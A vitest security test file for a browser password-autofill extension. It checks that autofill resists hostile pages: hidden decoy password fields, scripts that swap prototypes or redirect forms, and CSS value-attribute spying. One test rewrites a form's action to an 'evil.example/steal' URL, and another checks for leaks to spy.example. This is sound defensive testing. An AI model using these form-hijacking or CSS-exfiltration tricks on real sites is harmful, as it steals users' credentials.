import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EntryId } from '../../src/domain/ids.ts';
import type { Tab } from '../browser/surface.ts';
import { browserKinds } from '../e2e/desk.ts';
import { allValues, type Bench, holdsLoot, loginValues, loot, openBench, sleep } from './bench.ts';
import { badForms } from './pages/forms.ts';
import { hostileScripts, spyingStyles } from './pages/hostile-scripts.ts';
import { htmlReply, loginForm, page } from './pages/html.ts';
import { hidingPage, hidingRows } from './pages/visibility-matrix.ts';

const host = 'forms.attack.example';

describe.each(browserKinds)('forms in %s', (kind) => {
  let bench: Bench;
  let entryId: EntryId;
  let submitting: EntryId;
  beforeAll(async () => {
    bench = await openBench(kind);
    entryId = (await bench.link(host)).sessionId;
    submitting = (await bench.link(host, { autoSubmit: true })).sessionId;
  });
  afterAll(() => bench?.close());

  /** A page at the linked origin; what is posted to it is answered with a welcome. */
  const open = (html: string): Promise<Tab> => {
    bench.serve(host, ({ method }) => htmlReply(method === 'POST' ? page('<p>Welcome</p>') : html));
    return bench.visit(`https://${host}/`);
  };

  it('fills a plain form and, where the session asks for it, sends it: what the rows below differ from', async () => {
    const tab = await open(page(loginForm()));
    expect(await bench.fill(tab, entryId)).toBe('filled');
    expect(await loginValues(tab)).toEqual(loot);
    const sent = await open(page(loginForm()));
    await bench.fill(sent, submitting).catch(() => undefined);
    await sent.waitFor(() => document.body.innerText.includes('Welcome'));
    expect(bench.desk.server.requests.filter(({ method }) => method === 'POST')).toMatchObject([{ host }]);
  });

  it.each(badForms)('SR-7: refuses $name with its own code', async ({ html, refusal }) => {
    const before = { stolen: bench.stolen(), reveals: bench.desk.reveals() };
    const tab = await open(html);
    expect(await bench.fill(tab, submitting)).toBe(refusal);
    expect(holdsLoot(await allValues(tab))).toBe(false);
    expect({ stolen: bench.stolen(), reveals: bench.desk.reveals() }).toEqual(before);
  });

  it.each(hidingRows)('SR-8: never fills a password field hidden by $name', async (row) => {
    const before = bench.desk.reveals();
    const tab = await open(hidingPage(row));
    expect(await bench.fill(tab, entryId)).toBe('filled');
    expect(await loginValues(tab)).toEqual({ username: loot.username, password: '' });
    expect(bench.desk.reveals()).toBe(before);
  });

  it('SR-8: beside a real login form, decoys hidden in every way stay empty', async () => {
    const decoys = hidingRows.map(({ name, wrap, style = '' }) =>
      wrap(`<input class="decoy" name="${name}" type="password" style="${style}">`),
    );
    const tab = await open(page(loginForm(undefined, decoys.join('<br>'))));
    expect(await bench.fill(tab, entryId)).toBe('filled');
    expect(await loginValues(tab)).toEqual(loot);
    const filled = await tab.evaluate(() =>
      Array.from(document.querySelectorAll<HTMLInputElement>('.decoy'))
        .filter(({ value }) => value !== '')
        .map(({ name }) => name),
    );
    expect(filled).toEqual([]);
  });

  it.each(hostileScripts)('SR-11: gains nothing with a script that $name', async ({ html, passwordMayLand }) => {
    const before = bench.stolen();
    const tab = await open(html);
    await bench.fill(tab, submitting).catch(() => undefined);
    await sleep(300);
    const found = await tab.evaluate(() => ({
      swapped: document.querySelector<HTMLInputElement>('#swapped')?.value ?? '',
      loot: ((window as unknown as { loot?: unknown[] }).loot ?? []).map(String),
      text: document.body.innerText,
    }));
    expect(found.swapped).toBe('');
    expect(bench.stolen()).toEqual(before);
    if (!passwordMayLand) expect(holdsLoot(await allValues(tab))).toBe(false);
  });

  it('SR-11: both values are there before the page hears of the first, and its changed form is not sent', async () => {
    const row = hostileScripts.find(({ name }) => name.startsWith('sends the form elsewhere'));
    const posts = () => bench.desk.server.requests.filter(({ method }) => method === 'POST').length;
    const before = posts();
    const tab = await open(row?.html ?? '');
    expect(await bench.fill(tab, submitting)).toBe('filled');
    await sleep(300);
    expect(await tab.evaluate(() => (window as unknown as { loot: unknown[] }).loot)).toEqual([
      ['password at user name event', 'written'],
    ]);
    expect(posts()).toBe(before);
  });

  it('SR-11: a form that is changed while IT Glue is asked is not filled', async () => {
    const tab = await open(page(loginForm('id="f" method="post" action="/login"')));
    const end = bench.desk.fake.faults.add({ fault: { kind: 'latency', ms: 600 } });
    const filled = bench.fill(tab, entryId);
    await sleep(350);
    await tab.evaluate(() => {
      const form = document.querySelector('form');
      if (form !== null) form.action = 'https://evil.example/steal';
    });
    expect(await filled).toBe('changed-during-fill');
    end();
    expect(await loginValues(tab)).toEqual({ username: '', password: '' });
  });

  it('SR-12: styles that watch the value attribute hear nothing', async () => {
    const tab = await open(spyingStyles);
    const before = bench.stolen();
    expect(await bench.fill(tab, entryId)).toBe('filled');
    expect(await loginValues(tab)).toEqual(loot);
    await sleep(500);
    const attributes = await tab.evaluate(() =>
      Array.from(document.querySelectorAll('input'), (input) => input.getAttribute('value')),
    );
    expect(attributes).toEqual([null, null]);
    expect(bench.stolen()).toEqual(before);
    await tab.evaluate(() => document.querySelector('#username')?.setAttribute('value', 'zebra'));
    await sleep(500);
    expect(bench.stolen()).toEqual([...before, 'GET spy.example/z ']);
  });

  it('SR-30: replaced prototypes and functions of the page are never called', async () => {
    const row = hostileScripts.find(({ name }) => name === 'replaces the prototypes');
    const tab = await open(row?.html ?? '');
    expect(await bench.fill(tab, entryId)).toBe('filled');
    expect(await tab.evaluate(() => (window as unknown as { loot: unknown[] }).loot)).toEqual([]);
    expect(await loginValues(tab)).toEqual(loot);
  });
});
